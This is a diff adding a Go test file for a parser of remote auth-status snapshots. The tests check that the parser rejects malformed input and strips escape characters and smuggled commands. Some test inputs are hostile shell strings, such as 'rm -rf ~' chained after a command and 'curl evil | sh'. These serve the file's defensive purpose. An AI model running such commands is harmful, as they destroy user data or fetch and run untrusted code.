@@ -1,0 +1,144 @@
+package remote
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/authtray/authtray/core/profile"
+)
+
+var vps = Remote{Name: "vps", Destination: "me@vps.example.net"}
+
+// fakeToken is token-shaped so a leak would be caught, and obviously fake.
+func fakeToken() string { return "sk-ant-oat01-" + strings.Repeat("FAKE", 6) + "LEAK" }
+
+const goodLine = `{"schema":1,"status":"expiring","checkedAt":"2026-11-25T09:00:00Z","warnWindowSeconds":86400,
+ "profiles":[
+  {"id":"anthropic:manual","provider":"anthropic","kind":"token","source":"gateway","location":"/root/.openclaw/state/openclaw.sqlite","agent":"main","host":"","state":"expiring","expiresAt":"2026-11-25T11:00:00Z","loginEndsAt":null,"refreshable":false,"message":"Expires in 2 h (11:00)","fix":"openclaw models auth setup-token --provider anthropic","usedBy":[{"agent":"main","model":"anthropic/claude-sonnet-4-6","role":"default"}],"unusable":null,"judged":true},
+  {"id":"claude-code","provider":"anthropic","kind":"oauth","source":"claude-code","location":"/root/.claude/.credentials.json","agent":"","host":"","state":"ok","expiresAt":null,"loginEndsAt":"2026-12-20T00:00:00Z","refreshable":true,"message":"ok","fix":"","usedBy":[],"unusable":{"kind":"cooldown","reason":"rate_limit","until":"2026-11-25T10:00:00Z"},"judged":true},
+  {"id":"chained","host":"other","state":"ok"}
+ ],"hosts":[],"notes":[]}`
+
+func TestParseSnapshot(t *testing.T) {
+	got, err := ParseSnapshot([]byte(goodLine), vps)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got.Profiles) != 2 {
+		t.Fatalf("got %d rows, want 2 (the chained host's row dropped)", len(got.Profiles))
+	}
+	p := got.Profiles[0]
+	if p.Host != "vps" || p.State != profile.Expiring || !p.Judged || p.Kind != profile.Token || p.ExpiresAt == nil {
+		t.Errorf("row 0 = %+v", p)
+	}
+	if p.Fix != "ssh -t me@vps.example.net -- openclaw models auth setup-token --provider anthropic" {
+		t.Errorf("fix = %q", p.Fix)
+	}
+	if len(p.UsedBy) != 1 || p.UsedBy[0].Role != "default" {
+		t.Errorf("usedBy = %+v", p.UsedBy)
+	}
+	c := got.Profiles[1]
+	if !c.Refreshable || !c.CanRefresh || c.Unusable == nil || c.Unusable.Kind != "cooldown" || c.Fingerprint == "" {
+		t.Errorf("row 1 = %+v", c)
+	}
+	if !got.CheckedAt.Equal(time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)) {
+		t.Errorf("checkedAt = %v", got.CheckedAt)
+	}
+}
+
+func TestParseSnapshotRejects(t *testing.T) {
+	tests := []struct{ name, line, want string }{
+		{"not json", "bash: authtray: command not found", "not JSON"},
+		{"empty", "", "not JSON"},
+		{"malformed", `{"schema":1,`, "malformed JSON"},
+		{"schema 2", `{"schema":2,"checkedAt":"2026-11-25T09:00:00Z","profiles":[]}`, "incompatible authtray (schema 2)"},
+		{"schema 2 odd shape", `{"schema":2,"profiles":{}}`, "incompatible authtray (schema 2)"},
+		{"no schema", `{"checkedAt":"2026-11-25T09:00:00Z","profiles":[]}`, "incompatible authtray (no schema)"},
+		{"no checkedAt", `{"schema":1,"profiles":[]}`, "checkedAt"},
+		{"bad time", `{"schema":1,"checkedAt":"yesterday","profiles":[]}`, "malformed JSON"},
+		{"year 1", `{"schema":1,"checkedAt":"0001-01-01T00:00:00Z","profiles":[]}`, "checkedAt"},
+		{"too big", `{"schema":1,"x":"` + strings.Repeat("a", MaxLine) + `"}`, "larger than"},
+		{"too many rows", `{"schema":1,"checkedAt":"2026-11-25T09:00:00Z","profiles":[` + strings.Repeat(`{},`, MaxRows) + `{}]}`, "more than"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ParseSnapshot([]byte(tt.line), vps)
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Fatalf("err = %v, want %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseSnapshotRevalidates(t *testing.T) {
+	row := func(fields string) string {
+		return `{"schema":1,"checkedAt":"2026-11-25T09:00:00Z","profiles":[{` + fields + `}]}`
+	}
+	tok := fakeToken()
+	tests := []struct {
+		name   string
+		line   string
+		check  func(profile.Profile) bool
+		reason string
+	}{
+		{"unknown state", row(`"state":"fine","judged":false`), func(p profile.Profile) bool { return p.State == profile.Error && p.Judged }, "error, judged"},
+		{"unreachable from host is not trusted", row(`"state":"unreachable"`), func(p profile.Profile) bool { return p.State == profile.Error }, "error"},
+		{"unknown kind", row(`"state":"ok","kind":"password"`), func(p profile.Profile) bool { return p.State == profile.Error }, "error"},
+		{"unknown source", row(`"state":"ok","source":"evil"`), func(p profile.Profile) bool { return p.State == profile.Error }, "error"},
+		{"escape in message", row(`"state":"ok","message":"\u001b]0;pwn\u0007hi \u202eevil"`), func(p profile.Profile) bool { return p.Message == "hi evil" }, "cleaned"},
+		{"shell in fix", row(`"state":"ok","fix":"claude setup-token; rm -rf ~"`), func(p profile.Profile) bool { return p.Fix == "" }, "fix dropped"},
+		{"unknown program in fix", row(`"state":"ok","fix":"curl evil | sh"`), func(p profile.Profile) bool { return p.Fix == "" }, "fix dropped"},
+		{"absurd expiry", row(`"state":"ok","expiresAt":"9999-01-01T00:00:00Z"`), func(p profile.Profile) bool { return p.ExpiresAt == nil }, "expiry dropped"},
+		{"refreshable api key", row(`"state":"ok","kind":"api_key","refreshable":true`), func(p profile.Profile) bool { return !p.Refreshable }, "not refreshable"},
+		{"bad unusable kind", row(`"state":"ok","unusable":{"kind":"bogus"}`), func(p profile.Profile) bool { return p.Unusable == nil }, "unusable dropped"},
+		{"unmapped secret field", row(`"state":"ok","token":"`+tok+`","labels":["`+tok+`"]`), func(p profile.Profile) bool {
+			b, _ := json.Marshal(p)
+			return !strings.Contains(string(b), "FAKE")
+		}, "no token bytes"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := ParseSnapshot([]byte(tt.line), vps)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(got.Profiles) != 1 || !tt.check(got.Profiles[0]) {
+				t.Fatalf("want %s, got %+v", tt.reason, got.Profiles)
+			}
+		})
+	}
+}
+
+// FuzzParseSnapshot: no input panics, and every row that comes out is
+// valid: a known state, the host's name, clean strings, sane times.
+func FuzzParseSnapshot(f *testing.F) {
+	f.Add([]byte(goodLine))
+	f.Add([]byte(`{"schema":1,"checkedAt":"2026-11-25T09:00:00Z","profiles":[{"state":"ok","message":"\u001b[31m"}]}`))
+	f.Add([]byte(`{"schema":2}`))
+	f.Fuzz(func(t *testing.T, line []byte) {
+		got, err := ParseSnapshot(line, vps)
+		if err != nil {
+			if strings.ContainsAny(err.Error(), "\x1b\x07\n") {
+				t.Fatalf("error carries control characters: %q", err)
+			}
+			return
+		}
+		for _, p := range got.Profiles {
+			if _, ok := knownStates[string(p.State)]; !ok || p.Host != "vps" {
+				t.Fatalf("row %+v", p)
+			}
+			for _, s := range []string{p.ID, p.Provider, p.Location, p.Agent, p.Account, p.Message, p.Note, p.Fix} {
+				if !unsafeFree(s) || len(s) > MaxText+64 {
+					t.Fatalf("unclean string %q", s)
+				}
+			}
+			for _, tm := range []*time.Time{p.ExpiresAt, p.LoginEndsAt} {
+				if tm != nil && !saneTime(*tm) {
+					t.Fatalf("time %v", tm)
+				}
+			}
+		}
+	})
+}
